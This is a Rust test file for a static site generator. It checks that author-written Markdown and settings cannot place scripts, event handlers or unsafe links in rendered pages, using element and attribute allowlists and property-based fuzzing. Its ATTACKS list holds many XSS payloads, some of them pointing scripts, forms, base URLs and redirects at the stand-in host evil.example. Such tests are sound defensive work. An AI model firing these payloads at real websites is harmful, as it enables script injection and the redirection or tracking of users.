//! Whatever an author writes, nothing runs and nothing leaves the site by itself: the page is
//! read as a browser reads it, and holds only elements, attributes and addresses of ours.

use proptest::prelude::*;
use scraper::Html;
use underpin::{
    read::{PackFiles, read_pack},
    route::Route,
};

use super::{all, pages};

/// Every element that a page's main part may hold.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "body",
    "main",
    "div",
    "section",
    "article",
    "nav",
    "details",
    "summary",
    "form",
    "fieldset",
    "legend",
    "label",
    "input",
    "select",
    "option",
    "progress",
    "textarea",
    "button",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "span",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "a",
    "strong",
    "em",
    "s",
    "sup",
    "mark",
    "code",
    "pre",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "img",
    "br",
    "hr",
];

/// Every attribute, but for those that begin with `data-` or `aria-`.
const ATTRIBUTES: &[&str] = &[
    "id",
    "class",
    "role",
    "tabindex",
    "href",
    "rel",
    "src",
    "alt",
    "loading",
    "type",
    "name",
    "max",
    "value",
    "rows",
    "inputmode",
    "autocomplete",
    "autocapitalize",
    "disabled",
    "required",
    "for",
    "spellcheck",
    "scope",
    "start",
];

/// What is wrong with the main part of a page, if anything.
fn intruder(html: &str) -> Option<String> {
    let (_, main) = html.split_once("<main")?;
    let (main, _) = main.rsplit_once("</main>")?;
    let page = Html::parse_fragment(&format!("<main{main}</main>"));
    all(&page, "*").into_iter().find_map(|element| {
        let name = element.value().name();
        if !ELEMENTS.contains(&name) {
            return Some(format!("the element {name}"));
        }
        element.value().attrs().find_map(|(attribute, value)| {
            let known = ATTRIBUTES.contains(&attribute)
                || attribute.starts_with("data-")
                || attribute.starts_with("aria-");
            let led = match attribute {
                "href" => leads_somewhere_allowed(value),
                "src" => {
                    value.starts_with("../../content/") || value.starts_with("../../../content/")
                }
                "type" => {
                    ["radio", "checkbox", "text", "submit", "button", "password"].contains(&value)
                }
                _ => true,
            };
            (!known || !led).then(|| format!("{name} {attribute}={value:?}"))
        })
    })
}

fn leads_somewhere_allowed(address: &str) -> bool {
    // A browser drops these before it looks for a scheme.
    let plain: String = address.chars().filter(|c| !c.is_control()).collect();
    let plain = plain.trim().to_lowercase();
    let web = ["http://", "https://", "mailto:", "tel:"];
    web.iter().any(|start| plain.starts_with(start))
        || ["#", "../", "./"]
            .iter()
            .any(|start| plain.starts_with(start))
}

/// The pages of a pack with one unit, its text and some settings under an attacker's hand.
fn pages_of(unit: &str, word: &str) -> Vec<String> {
    let quoted = toml_string(word);
    let settings = format!(
        "id = \"p\"\ntitle = {quoted}\nversion = {quoted}\nunits = [\"unit\"]\n\n[terms]\nword = {quoted}\n\n\
         [contacts]\nmanager = {{ name = {quoted}, phone = {quoted}, email = {quoted} }}\n\n\
         [criteria.\"unit/ac-1\"]\nofficial_ref = {quoted}\nofficial_text = {quoted}\n"
    );
    let files = PackFiles {
        settings: Some(settings),
        units: vec![("unit.md".into(), unit.into())],
        ..PackFiles::default()
    };
    let pack = read_pack(&files).value;
    let shown = pages(&pack).into_iter().filter(|(route, _)| {
        matches!(
            route,
            Route::Home | Route::Unit(_) | Route::Answer(..) | Route::Help
        )
    });
    shown.map(|(_, html)| html).collect()
}

fn toml_string(words: &str) -> String {
    let safe: String = words.chars().filter(|c| !c.is_control()).collect();
    format!("\"{}\"", safe.replace('\\', "\\\\").replace('"', "\\\""))
}

/// Every place where an author can write, holding `words`.
fn everywhere(words: &str) -> String {
    let line = words.replace(['\n', '\r'], " ");
    format!(
        "+++\nid = \"unit\"\ntitle = {title}\nlevel = 3\nminutes = 5\n+++\n\n{words}\n\n\
         ## {line} {{#reading criteria=ac-1}}\n\n{words}\n\n{{{{term:word}}}}[^n]\n\n[^n]: {line}\n\n\
         ### {line} {{#one .single}}\n\n{words}\n\n- [x] {line}\n  > {line}\n- [ ] other {line}\n  > [!CAUTION]\n  > {line}\n\n> {line}\n\n\
         ### {line} {{#gap .gap}}\n\n[[{line}|x]] [[={line}|y]]\n\n\
         ### {line} {{#match .match}}\n\n| {line} | b |\n|---|---|\n| {line} | c |\n| d | {line} |\n\n\
         ### {line} {{#order .order}}\n\n1. {line}\n2. other\n\n\
         ### {line} {{#short .short}}\n\n- [x] {line} | b\n  > {line}\n\n\
         ## {line} {{#story .scenario}}\n\n{words}\n\n### {line} {{#step .single}}\n\n- [x] {line}\n  > {line} [{line}](#end)\n- [ ] b\n  > c\n\n### {line} {{#end}}\n\n{words}\n\n\
         ## 1.1 Explain {line} {{#ac-1 .criterion}}\n\n{words}\n\n- **{line}.** {line}\n",
        title = toml_string(&line),
    )
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "</title><script>alert(1)</script>",
    "</textarea></select></option><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example)",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](<https://example.org/ \" onmouseover=alert(1) x=\">)",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![\" onerror=alert(1) x=\"](picture.png)",
    "![x](../../secret.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "\" onfocus=alert(1) autofocus=\"",
    "' onfocus=alert(1) autofocus='",
    "\"><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<p style=\"position:fixed\">x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?x <script>alert(1)</script> ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}txet neddih",
    "<\u{0}script>alert(1)</script>",
    "{{term:word}} {{term:\"><script>}}",
    "[[\"><script>alert(1)</script>]]",
    "{#\" onload=alert(1)}",
    "a {#x onclick=alert(1) style=display:none}",
];

#[test]
fn no_known_attack_reaches_a_page() {
    for attack in ATTACKS {
        for html in pages_of(&everywhere(attack), attack) {
            assert_eq!(intruder(&html), None, "{attack:?}");
        }
    }
}

#[test]
fn the_test_would_notice() {
    for bad in [
        "<main><script>x</script></main>",
        "<main><p onclick=x>x</p></main>",
        "<main><p style=x>x</p></main>",
        "<main><a href=\"java\tscript:x\">x</a></main>",
        "<main><img src=\"https://example.org\"></main>",
    ] {
        assert!(intruder(bad).is_some(), "{bad}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// Pieces of attacks, put together by chance, in every place.
    #[test]
    fn no_mixture_of_attacks_reaches_a_page(
        pieces in prop::collection::vec(
            prop_oneof![
                prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned),
                prop::sample::select(vec!["<", ">", "\"", "'", "`", "](", "[", "![", "(", ")", "\n", "\n\n", "> ", "- ", "|", "=", "/", "&", "\\", "{", "}", "on", "javascript:", "script", "\t", "\u{0}", "#"]).prop_map(str::to_owned),
                "\\PC{0,6}",
            ],
            1..10,
        ),
    ) {
        let words = pieces.concat();
        for html in pages_of(&everywhere(&words), &words) {
            prop_assert_eq!(intruder(&html), None);
        }
    }
}

#[test]
fn ten_thousand_quotations_deep_neither_hangs_nor_breaks_a_page() {
    for deep in [
        ">".repeat(10_000) + " x",
        "- ".repeat(10_000) + "x",
        "[".repeat(10_000),
        "*a ".repeat(10_000),
    ] {
        let unit = format!(
            "+++\nid = \"unit\"\ntitle = \"Deep\"\nlevel = 3\nminutes = 5\n+++\n\n## Words {{#words}}\n\n{deep}\n\n\
             ### Which? {{#one .single}}\n\n- [x] a\n  > {deep}\n"
        );
        for html in pages_of(&unit, "x") {
            assert_eq!(intruder(&html), None);
        }
    }
}
